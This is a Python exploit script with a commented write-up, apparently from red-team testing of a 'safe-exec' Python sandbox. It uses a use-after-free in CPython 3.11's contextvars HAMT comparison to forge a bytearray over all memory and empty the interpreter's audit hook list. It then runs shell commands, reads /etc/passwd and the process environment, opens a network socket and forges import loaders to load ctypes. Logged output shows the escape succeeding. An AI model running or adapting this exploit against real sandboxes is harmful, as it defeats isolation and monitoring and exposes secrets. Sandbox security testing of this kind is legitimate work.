# family: wall (memory: contextvars.Context == walks a HAMT a value's __eq__ replaces, gh-142829)   goal: env   interpreter: /usr/bin/python3
# (twelfth wall round, ok_03) FULL ESCAPE: Context.__eq__ walks a HAMT that a value's __eq__ frees
#        (gh-142829, fixed upstream Dec 2025 in 3.13+ only; reported against 3.11 too;
#        not guarded: the wall has no guard for contextvars at all) -> the freed root
#        node refilled as a fake bitmap node -> a fake bytearray handed to the program's
#        reflected __eq__ -> raw memory -> audit hook list emptied
#
# Family: memory safety of CPython 3.11 (Python/hamt.c, _contextvars). New type: no
#   guard of the wall touches Context/ContextVar.
# Reach: `import contextvars` is refused, but asyncio imports it, so
#   sys.modules["contextvars"] hands out Context and ContextVar (allowed to call).
# Mechanism: context_tp_richcompare -> _PyHamt_Eq(v, w) iterates v (ctx1's HAMT) with
#   a hamt_iter_t that holds v's nodes BORROWED, and compares each value with
#   PyObject_RichCompareBool. The first value, Boom, has an __eq__ that runs
#   ctx1.run(varA.set, 0): ctx1's HAMT is replaced (the root is cloned) and the old
#   HAMT and its root node (2 entries: an 80-byte GC block) are freed. Boom then sprays
#   64 bytearrays of 79 bytes (80-byte buffers) holding a fake bitmap node: ob_type =
#   &_PyHamt_BitmapNode_Type (id(type) + 597696, measured with ctypes in the image's
#   python3 outside the sandbox), ob_size 4, entry 1 = (varB, <fake bytearray>), the
#   fake PyByteArrayObject (ob_size 2**62, ob_start NULL) inside a bytes constant.
#   The iterator's next step reads the freed root: key varB, value the fake.
#   hamt_find(ctx2, varB) gives BA(b"x"), a bytearray subclass, so do_richcompare calls
#   its reflected BA.__eq__(w, <fake bytearray>) first: the program holds a bytearray
#   over all memory. varA/varB are drawn until varA's 5-bit hash slot is below varB's
#   (the root's entry order). Then wall10/11's payload unchanged.
# Goals reached: audit hook removed; `id`; /etc/passwd; environment; AF_INET socket;
#   entrypoint frames and globals; native library (ctypes + libc).
# Plain python3: works in the image's 3.11.2 (docker run --rm --network none -i
#   --entrypoint python3 safe-exec-sandbox:r12 -I - < FILE). Sandbox: 6 of 6 runs
#   succeeded with the 64-block spray (the first version, one bytearray, missed 1 of 3).
#
# sb-run output (export SAFE_EXEC_IMAGE=safe-exec-sandbox:r12; build/sb-run --full FILE):
#   status: ok   exit_code: 0   
#   duration 65 ms, cpu 42 ms, memory peak 24640 KiB, fresh container
#   --- stdout (756 bytes)
#   bytearray of 0x4000000000000000 bytes at address 0
#   interp+3552: the interpreter's audit hooks: [function b'hook']
#   audit hook list emptied
#   uid=10001(sandbox) gid=10001(sandbox) groups=10001(sandbox)
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#   b'PATH=/usr/local/bin:/usr/bin:/bin HOSTNAME=5947dac5c668 LANG=C.UTF-8 HOME=/home/sandbox '
#   AF_INET socket: <socket.socket fd=3, family=2, type=1, proto=0, laddr=('0.0.0.0', 0)>
#   frame: run_user_code | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: runner | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: main | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: <module> | globals: None False
#   ctypes loaded, libc getpid() = 8 getuid() = 10001
#   --- stderr (0 bytes)
#
import sys
import asyncio
os = sys.modules["os"]
cv = sys.modules["contextvars"]          # loaded by asyncio; `import contextvars` itself is refused
W = lambda v: v.to_bytes(8, "little")
OFF_BITMAP = 597696                       # &_PyHamt_BitmapNode_Type - &PyType_Type (image's 3.11.2)
FAKEBA = W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
fake_ba = id(FAKEBA) + 32                 # a PyByteArrayObject inside the bytes' ob_sval
def idx(var):
    h = hash(var) & 0xFFFFFFFFFFFFFFFF
    return ((h & 0xFFFFFFFF) ^ (h >> 32)) & 31
keep = []
got = []
class BA(bytearray):
    def __eq__(self, o):
        got.append(o)                     # the fake bytearray, reflected first (subclass)
        return False
    __hash__ = None
class Boom:
    __slots__ = ()
    def __eq__(self, o):
        # ctx1's HAMT replaced: the old one and its 80-byte root node are freed
        ctx1.run(varA.set, 0)
        # the root's block taken back: a bitmap node whose entry 1 is (varB, fake bytearray)
        node = (W(0) + W(0) + W(1 << 40) + W(id(type) + OFF_BITMAP) + W(4) + W(0)
                + W(0) + W(0) + W(id(varB)) + W(fake_ba))[:79]
        for i in range(64):               # every free 80-byte block of the pool, the root's among them
            keep.append(bytearray(node))
        return True
while True:
    varA = cv.ContextVar("a"); varB = cv.ContextVar("b")
    if idx(varA) < idx(varB):
        break
    keep.append((varA, varB))
ctx1 = cv.Context(); ctx2 = cv.Context()
ctx1.run(varA.set, Boom()); ctx1.run(varB.set, 1)
ctx2.run(varA.set, 0); ctx2.run(varB.set, BA(b"x"))
ctx1 == ctx2
mem = got[0]
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
# image's /usr/bin/python3.11 (3.11.2): &_PyRuntime - &PyType_Type, main interpreter,
# audit_hooks (measured for wall7 ok_05 with ctypes outside the sandbox)
OFF_RT, OFF_INTERP, OFF_HOOKS = 1060224, 58936, (3552, 3880)
interp = id(type) + OFF_RT + OFF_INTERP
for off in OFF_HOOKS:
    lst = rd(interp + off)
    if not lst or rd(lst + 8) != id(list) or rd(lst + 16) != 1:
        continue
    fn = rd(rd(lst + 24))
    if rd(fn + 8) != id(type(rd)):
        continue
    name = rd(fn + 32)                                      # func_name
    text = bytes(mem[name + 48:name + 48 + rd(name + 16)])  # compact ASCII str
    print("interp+%d: the interpreter's audit hooks: [function %r]" % (off, text))
    if text == b"hook":
        mem[lst + 16:lst + 24] = bytes(8)                   # ob_size = 0: no hook
        print("audit hook list emptied", flush=True)
os.system("id; head -2 /etc/passwd")
print(open("/proc/self/environ", "rb").read().replace(b"\0", b" "))
socket = sys.modules["socket"]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); print("AF_INET socket:", s)
# frames and globals of the entrypoint (sys._getframe is no longer audited)
f = sys._getframe(0)
while f.f_back is not None:
    f = f.f_back
    print("frame:", f.f_code.co_name, "| globals:", f.f_globals.get("__file__"), "WALL_EXIT" in f.f_globals)
# a native library: _imp's loaders are the wall's stubs and the originals are gone;
# forged back with the memory view: a copy of a real _imp function object whose m_ml
# points at the method table entry of create_dynamic / exec_dynamic.
_imp = sys.modules["_imp"]
def entry(name):
    ml0 = rd(id(_imp.is_builtin) + 16)             # PyCFunctionObject.m_ml (imp_methods[])
    for k in range(0, 16):                          # the loaders follow is_builtin
        p = rd(ml0 + 32 * k)
        if p == 0:
            return None
        if bytes(mem[p:p + len(name) + 1]) == name + b"\0":
            return ml0 + 32 * k
keepalive = []
def forge(model, name):
    # 16 zero bytes (an untracked GC head), then a copy of the model with m_ml changed
    buf = bytearray(16) + bytearray(mem[id(model):id(model) + 56])
    buf[16:24] = (1 << 40).to_bytes(8, "little")
    buf[32:40] = entry(name).to_bytes(8, "little")
    keepalive.append(buf)
    addr = rd(id(buf) + 32) + 16                    # the bytearray's ob_start + 16
    holder = [None]
    mem[rd(id(holder) + 24):rd(id(holder) + 24) + 8] = addr.to_bytes(8, "little")
    return holder[0]
_imp.create_dynamic = forge(_imp._fix_co_filename, b"create_dynamic")   # METH_FASTCALL
_imp.exec_dynamic = forge(_imp.is_builtin, b"exec_dynamic")           # METH_O
ctypes = sys.modules["importlib"].import_module("ctypes")
libc = ctypes.CDLL("libc.so.6")
print("ctypes loaded, libc getpid() =", libc.getpid(), "getuid() =", libc.getuid())
sys.stdout.flush()
os._exit(0)
